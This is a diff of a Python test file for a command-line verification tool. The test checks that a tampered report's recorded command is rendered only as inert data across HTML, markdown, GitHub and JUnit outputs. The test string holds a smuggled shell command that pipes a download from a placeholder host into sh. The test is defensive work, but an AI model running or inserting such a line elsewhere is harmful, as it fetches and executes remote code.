@@ -110,13 +110,16 @@ def test_the_command_of_a_report_is_shown_as_data(command, tmp_path):
     folder = tmp_path / "run"
     assert command("diff", *SMALL, *EAGER, "--fault", "last-fact-lost", "--save", folder).code == 1
     report = msgspec.json.decode((folder / REPORT).read_bytes())
-    evil = "kgverify diff; curl evil.example | sh"
+    evil = "kgverify diff; curl 'evil.example | sh"
     (folder / REPORT).write_bytes(msgspec.json.encode({**report, "command": evil}))
     for option in ("--html", "--markdown", "--github", "--junit"):
         out = command("report", folder, *([option] if option == "--github" else [option, "-"])).out
         for line in out.splitlines():
             assert evil not in line or "recorded as" in line
     assert evil not in command("report", folder).out
+    assert command("shrink", folder, "--divergence", "999").code == 2
+    (folder / REPORT).write_bytes(msgspec.json.encode({**report, "command": "kgverify diff --graph -"}))
+    assert "was read from standard input" in command("shrink", folder).err
 
 
 def test_a_test_holds_no_code_of_the_reproducer(tmp_path):
